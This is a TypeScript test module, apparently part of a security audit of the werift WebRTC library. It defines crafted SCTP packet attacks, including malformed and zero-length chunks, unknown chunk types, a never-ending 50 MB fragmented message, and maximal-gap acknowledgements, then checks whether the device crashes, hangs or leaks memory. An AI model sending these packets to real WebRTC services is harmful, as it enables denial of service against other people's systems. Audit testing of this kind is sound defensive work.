/**
 * Attacks with SCTP packets, from a viewer whose handshake was honest (werift-audit.md 2 and 8).
 * Where the standard lets the device end the attacker's own association, that is no harm; anybody
 * else's is.
 */
import { Buffer } from "node:buffer";
import { type Attack, type Harm, MAX_KEPT_BYTES, type Scene, works } from "./attack.ts";
import { Viewer } from "./viewer.ts";

/** Chunk types of RFC 9260 3.2, and one of RFC 4820. */
const DATA = 0;
const INIT = 1;
const SACK = 3;
const HEARTBEAT = 4;
const COOKIE_ACK = 11;
const PAD = 0x84;
/** Payload protocols of RFC 8831 8. */
const BINARY = 53;
const BINARY_EMPTY = 57;
const BEGIN = 2;
const END = 1;

/** Fragments of a message that never ends: 50 MB against a window of one. */
const ENDLESS_FRAGMENTS = 46_000;
const FRAGMENT_BYTES = 1100;
/** Datagrams that fit into a socket's buffer of 200 KB. */
const BATCH = 32;
/** Batches between two looks at the memory. */
const LOOK_EVERY = 64;
/** Acknowledgements of everything, many times over. */
const WIDE_SACKS = 12;
const WIDE_GAPS = 3900;

/** RFC 9260 3.2, padded to a multiple of four bytes; `length` may lie. */
function chunk(type: number, value: Uint8Array, { flags = 0, length = 4 + value.length } = {}) {
  const bytes = Buffer.alloc(4 + Math.ceil(value.length / 4) * 4);
  bytes[0] = type;
  bytes[1] = flags;
  bytes.writeUInt16BE(length, 2);
  bytes.set(value, 4);
  return bytes;
}

function dataChunk(
  viewer: Viewer,
  { flags, ssn = 0, protocol, bytes, streamId = 0 }: {
    flags: number;
    ssn?: number;
    protocol: number;
    bytes: Uint8Array;
    streamId?: number;
  },
): Buffer {
  const head = Buffer.alloc(12);
  head.writeUInt32BE(viewer.takeTsn(), 0);
  head.writeUInt16BE(streamId, 4);
  head.writeUInt16BE(ssn, 6);
  head.writeUInt32BE(protocol, 8);
  return chunk(DATA, Buffer.concat([head, bytes]), { flags });
}

/** Sends packets in a session of its own, which has to go on afterwards. */
function packetAttack(
  name: string,
  stockHarm: Harm,
  send: (viewer: Viewer) => Promise<void>,
): Attack {
  return {
    name,
    stockHarm,
    async run({ device }) {
      const viewer = await Viewer.connect(device);
      if (!await works(viewer)) return ["session ended"];
      await send(viewer);
      await pause(); // a packet is worked off after the datagrams before it
      await device.drain();
      return await works(viewer) ? [] : ["session ended"];
    },
  };
}

export const badChecksum = packetAttack(
  "a packet has a bad checksum",
  "process ended",
  async (viewer) => {
    await viewer.sendRecord(Buffer.from("hello world 123456"));
    await viewer.sendRecord(Buffer.alloc(0));
    await viewer.sendRecord(Buffer.alloc(11));
  },
);

export const unknownChunk = packetAttack(
  "a packet has chunks of unknown types",
  "process ended",
  async (viewer) => {
    // RFC 9260 3.2: the two highest bits say whether to go on, and whether to report it.
    for (const type of [PAD, 0x3f, 0x7f, 0xbf, 0xfe]) {
      await viewer.sendChunks(chunk(type, Buffer.alloc(4)));
    }
  },
);

export const zeroLengthChunk = packetAttack(
  "a chunk says that it has no length",
  "process hung",
  async (viewer) => {
    await viewer.sendChunks(chunk(COOKIE_ACK, Buffer.alloc(0), { length: 0 }));
    for (const length of [1, 3, 5, 65_535]) {
      await viewer.sendChunks(chunk(HEARTBEAT, Buffer.alloc(0), { length }));
    }
  },
);

export const zeroLengthParameter = packetAttack(
  "a parameter of a chunk says that it has no length",
  "process hung",
  async (viewer) => {
    const fixed = Buffer.alloc(16);
    fixed.writeUInt32BE(1, 0);
    fixed.writeUInt32BE(65_536, 4);
    fixed.writeUInt16BE(1, 8);
    fixed.writeUInt16BE(1, 10);
    const parameter = Buffer.from([0xc0, 0, 0, 0]);
    await viewer.sendChunks(chunk(INIT, Buffer.concat([fixed, parameter])));
    await viewer.sendChunks(chunk(HEARTBEAT, Buffer.from([0, 1, 0, 0])));
    await viewer.sendChunks(chunk(HEARTBEAT, Buffer.from([0, 1, 0, 3])));
  },
);

export const emptyMessage = packetAttack(
  "an empty message is sent, and echoed if it is taken for one",
  "session ended",
  async (viewer) => {
    viewer.channel.send(Buffer.alloc(0)); // werift only counts the sequence number up
    const ssn = streamSequence(viewer) - 1;
    const bytes = Buffer.from([0]); // RFC 8831 6.6: one byte that is no part of it
    await viewer.sendChunks(
      dataChunk(viewer, { flags: BEGIN | END, ssn, protocol: BINARY_EMPTY, bytes }),
    );
  },
);

export const endlessMessage: Attack = {
  name: "a message never ends and ignores the window: 46,000 fragments",
  stockHarm: "too much memory",
  async run({ device }) {
    const viewer = await Viewer.connect(device);
    if (!await works(viewer)) return ["session ended"];
    const before = (await device.look()).keptBytes;
    const bytes = Buffer.alloc(FRAGMENT_BYTES);
    for (let sent = 0; sent < ENDLESS_FRAGMENTS; sent++) {
      const flags = sent === 0 ? BEGIN : 0;
      const fragment = dataChunk(viewer, { flags, protocol: BINARY, bytes, streamId: 1 });
      // Whether the attacker's association was ended or not, its records keep coming.
      await viewer.sendChunks(fragment).catch(() => {});
      if (sent % BATCH === BATCH - 1) await device.drain();
      if (sent % (BATCH * LOOK_EVERY) !== 0) continue;
      const kept = (await device.look()).keptBytes - before;
      if (kept > MAX_KEPT_BYTES) return ["too much memory"]; // and it would go on like this
    }
    return [];
  },
};

export const wideGaps: Attack = {
  name: "acknowledgements have gaps as wide as their fields allow",
  stockHarm: "process hung",
  async run(scene: Scene) {
    const viewer = await Viewer.connect(scene.device);
    if (!await works(viewer)) return ["session ended"];
    const head = Buffer.alloc(12);
    head.writeUInt32BE(viewer.lastReceivedTsn, 0);
    head.writeUInt32BE(65_536, 4);
    head.writeUInt16BE(WIDE_GAPS, 8);
    const gaps = Buffer.alloc(4 * WIDE_GAPS);
    for (let at = 0; at < gaps.length; at += 4) gaps.set([0, 1, 0xff, 0xff], at);
    for (let i = 0; i < WIDE_SACKS; i++) {
      await viewer.sendChunks(chunk(SACK, Buffer.concat([head, gaps])));
    }
    await pause();
    await scene.device.drain();
    return [];
  },
};

/** Number of the next message of channel 0, in werift's own count. */
function streamSequence(viewer: Viewer): number {
  const { sctp } = viewer.connection.sctpTransport!;
  return (Reflect.get(sctp, "outboundStreamSeq") as Record<number, number>)[0]!;
}

function pause(): Promise<void> {
  return new Promise((resolve) => setTimeout(resolve, 300));
}
